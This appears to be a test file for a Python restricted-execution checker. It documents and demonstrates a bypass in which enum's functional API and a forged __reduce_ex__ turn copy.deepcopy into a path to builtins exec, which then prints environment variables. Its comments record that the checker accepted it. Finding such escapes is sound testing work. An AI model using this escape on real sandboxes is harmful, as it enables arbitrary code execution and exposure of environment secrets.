# expect: reject class
# Mechanism: enum functional API reached as enum.Enum.__call__(name, mapping) (the 
#   class rule only restricts calls written Enum(...)); the mapping defines 
#   __reduce_ex__/__deepcopy__; deepcopy of a member forges a typing alias -> builtins exec
# Goal reached: exec obtained as a value and called; printed os.environ
# Checker: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | <built-in function exec>
#   | AWS_CA_BUNDLE = /etc/ssl/certs/ca-certificates.crt
#   | CLOUDSDK_CORE_CUSTOM_CA_CERTS_FILE = /etc/ssl/certs/ca-certificates.crt
#   | CLOUD_SDK_VERSION = 528.0.0
#   | CONTAINER_NAME = rigid-cake-dmgxmz-kwxgrq
#   | CUDA_HOME = /usr/local/cuda
#   | CURL_CA_BUNDLE = /etc/ssl/certs/ca-certificates.crt
# enum's functional API without calling the enum class by name: EnumType.__call__
# fetched through the class (enum.Enum.__call__ is a bound method of the metaclass;
# __call__ is dunder-allow, and `enum.Enum.<attr>` is a use the class rule allows).
# The mapping puts __reduce_ex__ (and __deepcopy__ = None) into the new class.
import copy
import enum
import typing


def red(self, proto):
    return (typing.List.copy_with, (("exec",),), {"_name": "__builtins__"})


E = enum.Enum.__call__("E", {"X": 1, "__deepcopy__": None, "__reduce_ex__": red})
ex = copy.deepcopy(copy.deepcopy(E.X))
print(ex)
ex("import os\nfor k in sorted(os.environ)[:6]: print(k, '=', os.environ[k])")
